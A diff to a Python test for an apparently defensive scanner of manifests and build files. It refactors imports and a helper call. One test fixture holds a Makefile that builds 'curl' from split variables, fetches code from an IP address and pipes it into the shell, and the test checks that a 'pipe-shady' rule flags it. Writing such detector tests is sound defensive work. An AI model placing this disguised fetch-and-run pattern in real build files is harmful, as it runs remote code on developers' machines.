@@ -13,7 +13,8 @@ from guard.corpus import Pair, pairs
 from whet.guard.documents import Document, Kind
 from whet.guard.finding import Hit, Seen, Severity
 from whet.guard.manifests import checker as manifests
-from whet.guard.manifests.names import NPM, PYPI, lookalike
+from whet.guard.manifests import make
+from whet.guard.manifests.packages import NPM, PYPI, lookalike
 from whet.guard.rules.manifests import RULES
 
 SEVERITY: dict[str, Severity] = {rule.id: rule.severity for rule in RULES}
@@ -292,9 +293,9 @@ def test_makefiles_are_read_with_what_they_include() -> None:
         document("Makefile", "include parts.mk\n\nall:\n\t@$(ONE)$(TWO) -s $(FROM) | $(SHELL)\n"),
         document("parts.mk", "ONE = cu\nTWO = rl\nFROM = http://203.0.113.4/p\n"),
     ]
-    found = [(path, hit.rule, hit.line) for path, seen in manifests.together(files) for hit in seen.hits]
+    found = [(path, hit.rule, hit.line) for path, seen in make.together(files) for hit in seen.hits]
     assert ("Makefile", "pipe-shady", 4) in found
-    assert list(manifests.together([files[0]])) == []
+    assert list(make.together([files[0]])) == []
 
 
 @pytest.mark.parametrize(
